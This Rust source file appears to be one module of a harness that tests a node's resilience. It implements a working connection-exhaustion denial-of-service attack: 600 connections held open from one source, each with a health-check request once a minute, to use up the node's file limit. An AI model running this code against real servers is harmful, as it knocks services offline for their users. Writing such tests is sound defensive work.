//! Attack: one source keeps connections of the HTTP port open with a request per minute on each.

use std::sync::Arc;
use std::time::Duration;

use anyhow::bail;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::peer::{SOURCE, dial, repeat, spawn_all};
use super::victim::Target;

/// More connections than the limit of a node with 1024 open files.
const CONNECTIONS: usize = 600;
/// The interval of requests on a connection.
const PAUSE: Duration = Duration::from_secs(60);

/// Attacks until dropped; counts sent requests.
pub async fn attack(target: Arc<Target>) -> anyhow::Result<()> {
    let one = |_| {
        let target = target.clone();
        async move { repeat(async || hold(&target).await).await }
    };
    spawn_all(CONNECTIONS, one).await;
    Ok(())
}

/// Keeps one connection open until the node closes it.
async fn hold(target: &Target) -> anyhow::Result<()> {
    let mut stream = dial(SOURCE, target.http).await?;
    loop {
        stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: node\r\n\r\n").await?;
        target.count();
        if timeout(PAUSE, read_until_closed(&mut stream)).await.is_ok() {
            bail!("the node has closed the connection");
        }
    }
}

/// Reads answers until the connection is closed.
async fn read_until_closed(stream: &mut TcpStream) {
    let mut answer = [0; 1024];
    while let Ok(1..) = stream.read(&mut answer).await {}
}
